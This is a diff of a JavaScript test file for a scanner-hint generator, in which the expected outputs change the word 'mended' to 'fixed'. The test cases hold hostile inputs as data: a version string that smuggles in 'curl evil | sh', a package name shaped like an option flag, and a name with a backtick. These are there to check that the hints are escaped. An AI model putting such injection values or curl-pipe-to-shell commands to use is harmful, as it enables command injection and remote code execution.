@@ -121,16 +121,16 @@ describe('the summary', () => {
         [{ packageType: 'deb', fixedIn: '1:3.0.15-1~deb12u1' }],
         '`apt-get install --yes --no-install-recommends libssl3=1:3.0.15-1~deb12u1`',
       ],
-      ['a kind of package that the scanner does not say', [{ packageType: null }], 'libssl3 is mended in 3.3.2-r1;'],
+      ['a kind of package that the scanner does not say', [{ packageType: null }], 'libssl3 is fixed in 3.3.2-r1;'],
       ['no fix', [{ fixedIn: null }], undefined],
       [
         'a package of the application',
         [{ packageType: 'npm', package: 'left-pad', fixedIn: '1.3.1, 2.0.1' }],
-        'left-pad is mended in 1.3.1, 2.0.1;',
+        'left-pad is fixed in 1.3.1, 2.0.1;',
       ],
-      ['a version that is none', [{ fixedIn: '1; curl evil | sh #-r1' }], 'mended in 1; curl evil \\| sh'],
-      ['a name that is an option', [{ package: '--allow-untrusted' }], 'Hint: --allow-untrusted is mended in'],
-      ['a name with a backtick', [{ package: 'a`b' }], 'Hint: a\\`b is mended in'],
+      ['a version that is none', [{ fixedIn: '1; curl evil | sh #-r1' }], 'fixed in 1; curl evil \\| sh'],
+      ['a name that is an option', [{ package: '--allow-untrusted' }], 'Hint: --allow-untrusted is fixed in'],
+      ['a name with a backtick', [{ package: 'a`b' }], 'Hint: a\\`b is fixed in'],
     ])('%s', (_, changes, hint) => {
       if (hint === undefined) expect(hintOf(...changes)).toBeUndefined();
       else expect(hintOf(...changes)).toContain(hint);
